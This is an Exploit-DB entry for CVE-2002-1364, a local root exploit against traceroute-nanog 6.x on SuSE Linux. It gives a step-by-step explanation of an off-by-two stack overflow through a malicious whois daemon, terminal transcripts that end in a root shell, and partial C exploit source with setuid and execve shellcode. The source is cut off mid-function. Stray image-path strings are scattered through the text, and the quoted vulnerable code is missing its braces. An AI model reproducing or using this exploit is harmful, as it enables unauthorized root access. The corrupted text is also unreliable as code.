Traceroute-nanog 6 - Local Buffer Overflow Vulnerability

ID EDB-ID:22014
Type exploitdb
Reporter Carl Livitt
Modified 2002-11-12T00:00:00


Traceroute-nanog 6 Local Buffer Overflow Vulnerability. CVE-2002-1364. Local exploit for linux platform


A vulnerability has been discovered in Traceroute-nanog. It has been reported that Traceroute-nanog contains a buffer overflow condition.

Theoverflow occurs in the 'get_origin()' function in the 'traceroute.c' file. Due to insufficient bounds checking performed by the whois parser, it may be possible to cause 'get_origin()' to corrupt memory on the system stack.

This vulnerability can be exploited by an attacker to gain root privileges on a target host.


---[ Traceroute-nanog 6.0 -> 6.1.1 exploit ]---

By Carl Livitt (

Exploits a stack overflow in get_origin() function of traceroute.c to gain r00t.
Tested on SuSE 7.1, 7.2, 7.3 & 8.0, but should work on 7.0 and 6.x.

There are lotsmore overflows in this traceroute implementation... mostly heap
overflows I think. Have a look, have some fun.

---[ About this exploit ]---

Traceroute-nanog can do WHOIS-like DNS lookups at each hop and find the admin email address
for each IP. It is possible to set environment variables to tell traceroute
the IP and port number of your own custom DNS server.

Unfortunately, traceroute fails to error-check the returned records, making it possible
to trick it into causing a stack overflow (but with limitations).

My technique was to write my own malicious server that would inject a carefully
crafted response to traceroute's query, triggering the overflow and letting
me obtainlocal r00t access.

---[ More Info ]---

When get_origin() is called, the stack looks like this:

 charbuf[256]     tmp4[100] tmp3[100] tmp2[100]  tmp1[100] EBP EIP
[bbbbbbbbbbbbbbbbbb44444444443333333333222222222221111111111BBBBIIII] -> 0xbfffffff

There is an 8k buffer called 'reply' on the heap. Its purpose is to hold the entire
reply from the  server. It is populated by repeated calls to read(2), each call
reading 256 bytes into buf[] which are then concatenated into reply[]. Incedentally,
no bounds checking is done onreply[], making it possible to cause a heap overflow:

count = 0;
        while ((n = read(s, buf, sizeof(buf))) > 0) {
            strcpy((char *)&reply[count],(char *)buf);
            count += n;

After reading the entire reply into reply[], get_origin() then parses the contents;
this is where the lack of bounds checking becomes apparent:

rp = (char *)reply;

        rp = (char *)strstr(rp,tmp2);
        while (rp != 0) {
           pp = (char *)strstr(rp,tmp3);
           if (pp == 0) {
              prefix = 0;
           } else {
              prefix = atoi(pp+1);

           if (prefix >= best_prefix) {
              i = (char *)strstr(pp,tmp);
              if (i != 0) {
                 i += strlen(DATA_DELIMITER);
                 while (*i == ' ') i++;
                 j = i;while (*j >= '0') j++; // CHAR FILTERING
                 if (prefix > best_prefix) {
                    best_prefix = prefix;
                 } else {
                 strncpy(tmp4,i,(j-i)); // OVERFLOW
                 tmp4[j-i] = '\0';
                 if (!(strstr(origin,tmp4))) {
                 } else {
                    if (prefix == best_prefix)
                       origin[strlen(origin)-1] = '\0';
           rp = (char *)strstr(rp+1,tmp2);

get_origin() finds the word 'route:' in reply[], then reads the number that follows
it. If the number is greater than best_prefix (zero), then get_origin() continues to
parse the reply[] buffer. It sets two pointers (*i, *j) to just past the location of
the string 'origin:', and then increments *j until a character < ASCII '0' is found.

So, *i marks the start of the buffer to copy into tmp4[] and *j marks the end of the
buffer. Because tmp4[] is 100 bytes long and it is possible to construct a reply ofarbitrary length, it is trivial to overflow tmp4[], tmp3[], tmp2[] and tmp1[], over-
writing values on the stack.

To exploit this overflow is not quite that simple, however. To redirect the flow of
execution, the EIP saved on the stack needs to be overwritten with a value such as
0xbfff4567; the problem is that while the chars 0x67 and 0x45 pass the filter
mentioned above (*j >='0'), the chars 0xbf and 0xff do not (j is of type 'char'. Valid
values that pass through the filter are 0x30 -> 0x7f). If 0xffbf was to be embedded
into the reply[] buffer as part of the overflow data, processing of the reply would
stop and the tmp4[] buffer would not be overflowed.

This means that we cannot directly affect EIP. That leaves EBP. Again we face the same
problem: we can only overwrite EBP with values in the range 0x30 -> 0x7f.... and one
other: NULL (0x00). The NULL byte cannot pass through the filter if placed there by an
attacker, but it doesn't matter because get_origin() NULL-terminates the tmp4[] buffer
for us.

So, it is possible to do an off-by-one attack (or off-by-two; more on that later) by
using the NULL byte to overflow the least-significant byte of the saved EBP. There's
only one more problem to overcome: we still need to get a malicious EIP value onto the
stack somewhere it can be reached via an off-by-one attack. However, we can't place
the EIP into the exploit buffer, because the 0xbfffxxxx will not pass through the filter.
Luckily, the reply[] buffer is populated by copying from the stack to the heap via the
buf[] buffer in 256 bytes chunks until there is no more data to copy. We can (ab)use
this behaviour by writing the exact amount of data into reply[] (viabuf[]) that is
needed to cause the overflow, then write a value less than '0' which will stop
get_origin() processing the exploit buffer and then we can write as many bytes as we
like into buf[] (up to 256) _of any value we like_.

All of this can be put together to form an exploit string that will overflow EBP,
fill buf[] with our evil EIP and let us execute arbitrary shellcode (stored in an
environment variable on the stack).

The trouble with this technique is that an off-by-one exploit only gives us one
possible location on the stack to find our evil EIP (remember, it's in buf[]). It
is not possible to reach _any_ address in buf[] using an off-by-one because buf[] is
located too far away on the stack. Even by padding out the stack with environment
variables to alter ESP doesn't work: we can't reach buf[]. However, it IS possible
to use an off-by-two attack:0xbffffabc becomes 0xbffffa00

0xbffffabc becomes 0xbfff00nn where nn is any value in range 0x30 -> 0x7f.

Aha! Now we've got a lot more flexibility in how we can reach buf[], and thus EIP.
All that is needed is to pad the stack by about 64K so that buf[] is located near
0xbfff00nn. This is accomplished by using an enormous environment variable to hold
our shellcode... in the exploit code I use about 64K of NOPs to do the trick. This
has the added bonus that it's difficult to miss 64K of NOPs when jumping to shellcode!

This exploit was very interesting to write. A couple of times I threw my hands up in
disgust as I thought it was not going to be possible to execute shellcode... but it
just goes to show what a little coffee and lateral thinking can do.

---[ Usage ]---

First, you must start the malicious daemon that will answer traceroute's query. It
can run on the same machine as you are exploiting, or on a different one... it makes
no difference. Then, you run the exploit which will start traceroute with the
correct environment variables to cause the overflow:

Example 1:

carl@titan:~/exploits/nanog-6.1.1 > ./traceroute-exploit -d
Now run this exploit with the '-e' flag.
carl@titan:~/exploits/nanog-6.1.1 > ./traceroute-exploit -e
traceroute to (, 30 hops max, 40 byte packets
 1 sh-2.05# id
uid=0(root) gid=100(users) groups=100(users)

Example 2:

carl@testingserver:/tmp >/sbin/ifconfig eth0 |grep inet
          inet addr:  Bcast:  Mask:
carl@testingserver:/tmp > ./traceroute-exploit -d
Now run this exploit with the '-e' flag.

carl@titan:~/exploits/nanog-6.1.1 > ./traceroute-exploit -e -s
traceroute to (, 30 hops max, 40 byte packets
 1 sh-2.05# id
uid=0(root) gid=100(users) groups=100(users),102(wwwrun)

Note that you _must_ run this exploit in '-d' (daemon) mode first, otherwise the
traceroute will just run as normal and you'll never be able to exploit it.

---[ Thats all folks ]---

Maybe this exploit has bugs, maybe not. Who knows for sure? Who cares, it's an
exploit that does what I needed and no more. Maybe I'll spend time refining it

On that note, if you make any additions/bugfixes/changes, then please mail copies
of the source back to me... thanks.

Have a nice r00t,

#include <sys/types.h>
#include <sys/socket.h>#include <netinet/in.h>
#include <arpa/inet.h>
#include <netdb.h>
#include <malloc.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#define _GNU_SOURCE
#include <getopt.h>

// Sensible defaults that work on SuSE 7.x & 8.0 (possibly others)
#define BUFSIZE 64128
#define RA_SERVER "localhost"
#define RA_SERVICE "ap"
#define TRACEROUTE "/usr/sbin/traceroute"
#define FLAGS "-nOA"
#define TRACE_HOST ""
#define NOT_SET 0
#define DAEMON 1
#define EXPLOIT 2
#define EXPLOIT_START "xxxxroute: /1 origin:111"
#define RET_ADDR 0xbfff4444

void do_daemon(char *service);void run_daemon(char *service);

char shellcode[] =
        "\x31\xc0\x31\xdb\xb0\x17\xcd\x80" // setuid(0)
        "\x80\xe8\xdc\xff\xff\xff/bin/sh"; // aleph1 execve() of /bin/sh

char usage[] =
"\ntraceroute-exploit - By Carl Livitt (\n"
"Exploits traceroute-nanog 6.0 -> 6.1.1 and others on SuSE 7.x/8.0\n\n"
"      ./traceroute-exploit < -d | -e > [ options ]\n\n"
"-d             Run in daemon mode (stage 1)\n""-e             Run in exploit mode (stage 2)\n"
"-h             Display this help\n"
"-H host        Traceroute to 'host' []\n"
"-s server      Specify host running exploit daemon [localhost]\n"
"-S service     Name of service port on exploit daemon host [ap]\n"
"               ap = port 47806/tcp (see /etc/services)\n"
"-t filename    Full path to traceroute binary [/usr/sbin/traceroute]\n"
"-b bufsize     Size of shellcode buffer [64128]\n"
"-v             Beverbose\n\n"
"Example (works on SuSE 7.x/8.0):\n"
"      ./traceroute-exploit -d\n"
"      ./traceroute-exploit -e\n\n"
"Example 2 (uses mysql port(3306)):\n"
"      ./traceroute-exploit -d -S mysql\n"
"      ./traceroute-exploit -e -S mysql\n\n";

extern char *optarg;
extern int optind, opterr, optopt;main(int argc, char **argv) {
        char *env[4];
        char *traceroute[4];
        char host[256], server[256], service[256],filename[256];
        int bufsize, verbose=0;
        int c,exploitMode=NOT_SET;
        char *buf;
        char tmp[256];

        // somesensible defaults that work out-of-the-box
        strncpy(host, TRACE_HOST, 255);
        strncpy(server, RA_SERVER, 255);
        strncpy(service, RA_SERVICE, 255);
        strncpy(filename, TRACEROUTE, 255);

        // process command-line args
        while((c=getopt(argc,argv,"vdehH:s:S:t:b:"))!=-1) {
                switch(c) {
                        case 'd':
                        case 'e':
                        case 'v':
